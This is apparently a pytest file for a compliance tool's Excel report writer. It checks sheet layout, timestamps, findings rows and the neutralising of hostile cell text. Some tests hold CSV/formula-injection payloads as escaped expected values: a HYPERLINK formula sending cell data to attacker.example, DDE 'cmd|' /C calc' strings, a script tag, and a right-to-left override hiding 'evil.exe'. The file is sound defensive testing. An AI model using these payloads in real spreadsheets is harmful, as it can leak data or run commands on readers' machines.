"""report.xlsx: sheets, tables, dates, findings rows and neutralised hostile text."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

import report_fixtures as fx
from evidencekit.reports.safe_text import EXCEL_CELL_LIMIT, cell_text
from evidencekit.reports.xlsx_report import write_xlsx
from evidencekit.results import AccessEntry, RunResult

SHEETS = [
    "Summary", "Controls", "Policies", "Findings", "Access review", "Evidence",
    "Statement of Applicability",
]  # fmt: skip
BANNER_SHEETS = ("Summary", "Access review")  # a banner row above the header

ACCESS_REVIEW = [
    AccessEntry(
        person="tomasz.brennan@harbourline.example",
        system="octopus",
        account="Users-5",
        entitlement="deploy-production",
        scope="Production (Environments-3) in Spaces-1",
        via="team prod-deployers (Teams-4) -> role Deployment creator "
        "(ScopedUserRoles-4) [DeploymentCreate]",
        evidence=["octopus/scopeduserroles/ScopedUserRoles-4", "octopus/teams/Teams-4"],
    ),
    AccessEntry(
        person=None,
        system="kubernetes:harbour-prod-eu",
        account='User:=HYPERLINK("http://attacker.example")',
        entitlement="administrator",
        scope="all namespaces (cluster-wide)",
        via="ClusterRoleBinding x\x07 -> ClusterRole cluster-admin [* on *.*]",
        evidence=["k8s/clusterrolebindings/x"],
    ),
]


def _workbook(result: RunResult, folder: Path) -> Workbook:
    return load_workbook(write_xlsx(result, folder / "report.xlsx"))


def _rows(ws: Worksheet, table: str) -> list[dict[str, object]]:
    """Read one Excel table of a sheet as dicts keyed by its header."""
    cells = ws[ws.tables[table].ref]
    header = [str(cell.value) for cell in cells[0]]
    return [{h: cell.value for h, cell in zip(header, row, strict=True)}
            for row in cells[1:]]  # fmt: skip


def _details(ws: Worksheet) -> dict[str, object]:
    return {str(row["Item"]): row["Value"] for row in _rows(ws, "RunDetails")}


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory) -> Workbook:
    return _workbook(fx.run_result(), tmp_path_factory.mktemp("xlsx"))


@pytest.fixture(scope="module")
def hostile_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    return write_xlsx(fx.hostile_run_result(), folder / "report.xlsx")


def test_sheets_have_frozen_headers_and_filtered_tables(workbook: Workbook) -> None:
    assert workbook.sheetnames == SHEETS
    for ws in workbook.worksheets:
        assert ws.freeze_panes == ("A3" if ws.title in BANNER_SHEETS else "A2")
        assert ws.tables, f"{ws.title} has no table"
        for table in ws.tables.values():
            assert table.autoFilter is not None
            assert table.autoFilter.ref == table.ref
            header = [cell.value for cell in ws[table.ref][0]]
            assert header == [column.name for column in table.tableColumns]


def test_summary_states_incompleteness_and_run_facts(workbook: Workbook) -> None:
    ws = workbook["Summary"]
    details = _details(ws)

    banner = str(ws["A1"].value)
    assert banner.startswith("EVIDENCE INCOMPLETE: 1 gap(s)")
    assert "NOT TESTED, not passed" in banner
    assert ws["A1"].fill.fgColor.rgb.endswith("C00000")
    assert "POLICY EVALUATION ERROR" in str(ws["A2"].value)
    assert details["Evidence completeness"] == "INCOMPLETE"
    assert details["Evidence gap 1"] == (
        f"servicenow/sys_user is incomplete: {fx.INCOMPLETE_WARNING}"
    )
    assert details["Organisation"] == fx.ORGANISATION
    assert details["Manifest SHA-256"] == fx.MANIFEST_SHA256
    assert details["Snapshot ID"] == fx.SNAPSHOT_ID


def test_timestamps_are_excel_datetimes_in_utc(workbook: Workbook) -> None:
    ws = workbook["Summary"]
    rows = {row[0].value: row[1] for row in ws.iter_rows(min_row=5, max_col=2)}

    generated = rows["Report generated (UTC)"]
    assert generated.value == datetime(2026, 10, 2, 6, 17, 42, 125000)
    assert generated.number_format == "yyyy-mm-dd hh:mm:ss"
    # 00:00 on 1 July in London is 23:00 UTC the day before
    assert rows["Period start (UTC)"].value == datetime(2026, 6, 30, 23, 0)
    assert rows["Evidence collected (UTC)"].is_date


def test_counts_per_framework_and_sources(workbook: Workbook) -> None:
    ws = workbook["Summary"]
    counts = {row["Framework"]: row for row in _rows(ws, "ControlCounts")}
    sources = _rows(ws, "Sources")

    assert counts["ISO/IEC 27001:2022"] == {
        "Framework": "ISO/IEC 27001:2022", "Pass": 1, "Fail": 4, "Not tested": 2,
        "Manual": 3, "Total": 10,
    }  # fmt: skip
    sys_user = next(row for row in sources if row["Resource"] == "sys_user")
    assert sys_user["Resource status"] == "INCOMPLETE"
    assert sys_user["Records"] == 1000
    assert sys_user["Warnings"] == fx.INCOMPLETE_WARNING


def test_controls_sheet_colours_statuses(workbook: Workbook) -> None:
    ws = workbook["Controls"]
    rows = _rows(ws, "Controls")
    status_column = [cell.value for cell in ws[1]].index("Status") + 1

    assert len(rows) == 16
    change = next(row for row in rows if row["Control"] == "A.8.32")
    assert change["Status"] == "FAIL"
    assert change["Findings"] == 6
    assert change["Policies"] == (
        "change-approval\ndeployment-window\napproval-before-deployment"
    )
    fills = {
        ws.cell(row=index, column=status_column).value:
        ws.cell(row=index, column=status_column).fill.fgColor.rgb
        for index in range(2, len(rows) + 2)
    }  # fmt: skip
    assert fills["PASS"].endswith("C6EFCE")
    assert fills["FAIL"].endswith("FFC7CE")
    assert fills["NOT TESTED"].endswith("FFEB9C")


def test_findings_rows_match_the_findings(workbook: Workbook) -> None:
    rows = _rows(workbook["Findings"], "Findings")

    assert len(rows) == 10
    assert [row["Severity"] for row in rows[:3]] == ["critical", "critical", "high"]
    linked = next(row for row in rows if row["Resource"] == "Deployments-1187")
    assert linked["Policy"] == "change-approval"
    assert str(linked["Message"]).startswith("Deployment of Claims Portal 2.3.1")
    assert linked["Evidence refs"] == (
        "octopus/deployments/Deployments-1187\n"
        "servicenow/change_request/a3f9c2d41b8e5010b2c4a7d2e34bcb11"
    )
    assert linked["Evidence file"] == "deployments/page-0002.json\nchange_request.json"
    assert linked["SHA-256"] == (
        f"{fx.sha('octopus/deployments/page-0002.json')}\n"
        f"{fx.sha('servicenow/change_request.json')}"
    )


def test_evidence_sheet_lists_every_manifest_file_and_referenced_record(
    workbook: Workbook,
) -> None:
    ws = workbook["Evidence"]
    files = _rows(ws, "ManifestFiles")
    records = _rows(ws, "ReferencedRecords")

    assert len(files) == 14
    tasks = next(row for row in files if row["File"] == "tasks.json")
    assert tasks["SHA-256"] == fx.sha("octopus/tasks.json")
    assert tasks["Records"] == 356
    assert tasks["Size (bytes)"] == 356 * 734 + 118
    assert next(row for row in files if row["File"] == "sys_user.json")["Status"] == (
        "INCOMPLETE"
    )
    by_ref = {row["Reference"]: row for row in records}
    assert len(by_ref) == len(records) == 14  # one row per record, however cited
    assert by_ref["octopus/tasks/ServerTasks-88213"]["File"] == "tasks.json"
    shared = by_ref["servicenow/change_request/a3f9c2d41b8e5010b2c4a7d2e34bcb11"]
    assert shared["Findings"] == 2
    assert shared["File SHA-256"] == fx.sha("servicenow/change_request.json")


def test_statement_of_applicability_covers_iso_controls(workbook: Workbook) -> None:
    rows = _rows(workbook["Statement of Applicability"], "StatementOfApplicability")

    assert [row["Control"] for row in rows][:4] == [
        "A.5.1",
        "A.5.3",
        "A.5.17",
        "A.5.18",
    ]
    assert {row["Applicable"] for row in rows} == {"Yes"}
    by_id = {row["Control"]: row for row in rows}
    assert by_id["A.5.1"]["How evidenced"] == "Manual evidence required"
    assert by_id["A.8.13"]["How evidenced"] == (
        "Policy backup-runbook: The backup runbook ran successfully every day"
    )
    assert all(row["Justification (to be completed by the organisation)"] is None
               for row in rows)  # fmt: skip
    assert not any(str(row["Control"]).startswith("CC") for row in rows)


def test_complete_run_says_complete(tmp_path: Path) -> None:
    ws = _workbook(fx.complete_run_result(), tmp_path)["Summary"]

    assert str(ws["A1"].value).startswith("EVIDENCE COMPLETE")
    assert _details(ws)["Evidence completeness"] == "COMPLETE"


def test_no_cell_holds_a_formula(hostile_path: Path) -> None:
    with zipfile.ZipFile(hostile_path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/work")]
        xml = "".join(archive.read(name).decode("utf-8") for name in sheets)
    assert not re.search(r"<f[ >]", xml)

    workbook = load_workbook(hostile_path)
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_hostile_strings_are_neutralised(hostile_path: Path) -> None:
    workbook = load_workbook(hostile_path)
    messages = [str(row["Message"]) for row in _rows(workbook["Findings"], "Findings")]

    assert '\'=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")' in (
        messages
    )
    assert "'+cmd|' /C calc'!A0" in messages
    assert "'-2+3+cmd|' /C notepad'!A0" in messages
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in messages
    assert "'\t=1+1" in messages
    assert "bell⟨U+0007⟩ nul⟨U+0000⟩ escape⟨U+001B⟩ delete⟨U+007F⟩" in messages
    assert "lone surrogate ⟨U+D800⟩ end" in messages
    assert "<script>alert('pwned')</script>" in messages  # inert text in a cell
    assert any("🚀 e\u0301\u0301" in m and "⟨U+202E⟩evil.exe" in m for m in messages)
    details = _details(workbook["Summary"])
    assert details["Organisation"] == "<b>Evil</b> & Co =1+1 ⟨U+202E⟩plc"
    assert details["Evidence gap 1"] == (
        "octopus/deployments is incomplete: =1+1 <b>bold</b>⟨U+0007⟩"
    )


def test_long_values_are_cut_visibly_at_the_cell_limit(hostile_path: Path) -> None:
    rows = _rows(load_workbook(hostile_path)["Findings"], "Findings")
    long_message = str(
        next(r for r in rows if r["Resource"] == "Deployments-9999")["Message"]
    )

    assert len(long_message) == EXCEL_CELL_LIMIT
    assert long_message.startswith("Change description: ABAB")
    assert long_message.endswith(
        f"… [truncated: {len(fx.LONG_MESSAGE):,} characters; full value in "
        "results.json]"
    )


def test_many_findings_are_all_written(tmp_path: Path) -> None:
    result = replace(fx.run_result(), findings=fx.many_findings(3000))
    ws = _workbook(result, tmp_path)["Findings"]

    rows = _rows(ws, "Findings")
    assert len(rows) == 3000
    assert {row["Severity"] for row in rows[:750]} == {"critical"}
    assert ws.conditional_formatting  # severity colours without per-cell styles


def test_access_review_sheet_lists_each_row_with_its_evidence(tmp_path: Path) -> None:
    result = replace(fx.run_result(), access_review=ACCESS_REVIEW)
    ws = _workbook(result, tmp_path)["Access review"]
    rows = _rows(ws, "AccessReview")

    assert str(ws["A1"].value).startswith(
        "ACCESS REVIEW FROM INCOMPLETE EVIDENCE: 1 gap"
    )
    assert "2 row(s); 1 account row(s) NOT JOINED to a person" in str(ws["A1"].value)
    assert ws["A1"].fill.fgColor.rgb.endswith("C00000")
    assert ws.tables["AccessReview"].ref == "A2:G4"
    assert rows[0] == {
        "Person": "tomasz.brennan@harbourline.example",
        "System": "octopus",
        "Account": "Users-5",
        "Entitlement": "deploy-production",
        "Scope": "Production (Environments-3) in Spaces-1",
        "Granted via": ACCESS_REVIEW[0].via,
        "Evidence refs": (
            "octopus/scopeduserroles/ScopedUserRoles-4\noctopus/teams/Teams-4"
        ),
    }
    assert rows[1]["Person"] == "NOT JOINED"
    assert ws.column_dimensions["F"].width == 70


def test_access_review_text_is_neutralised(tmp_path: Path) -> None:
    result = replace(fx.run_result(), access_review=ACCESS_REVIEW)
    rows = _rows(_workbook(result, tmp_path)["Access review"], "AccessReview")

    # the account does not start with "=", but the via text carries a control char
    assert rows[1]["Account"] == 'User:=HYPERLINK("http://attacker.example")'
    assert rows[1]["Granted via"] == (
        "ClusterRoleBinding x⟨U+0007⟩ -> ClusterRole cluster-admin [* on *.*]"
    )
    hostile = replace(
        fx.run_result(),
        access_review=[replace(ACCESS_REVIEW[1], account="=1+1", scope="@SUM(1)")],
    )
    row = _rows(_workbook(hostile, tmp_path)["Access review"], "AccessReview")[0]
    assert (row["Account"], row["Scope"]) == ("'=1+1", "'@SUM(1)")


def test_empty_access_review_says_so(tmp_path: Path) -> None:
    ws = _workbook(fx.complete_run_result(), tmp_path)["Access review"]

    assert str(ws["A1"].value) == (
        "Access review from complete evidence: 0 row(s); 0 account row(s) NOT "
        "JOINED to a person."
    )
    assert _rows(ws, "AccessReview")[0]["Person"] == (
        "(no entitlement found in this run's evidence)"
    )


def test_cell_limit_counts_utf16_units_for_emoji() -> None:
    """40,000 emoji are 80,000 UTF-16 units: the cell must still fit Excel's limit."""
    text = cell_text("\U0001f600" * 40_000)
    assert len(text.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT
    assert text.endswith("full value in results.json]")
    assert text.startswith("\U0001f600")


def test_line_separators_and_c1_controls_are_shown_not_obeyed() -> None:
    text = cell_text("a\u2028[forged] line\u2029b\x85c\x9bd")
    assert text.splitlines() == [text]
    for code in ("U+2028", "U+2029", "U+0085", "U+009B"):
        assert code in text
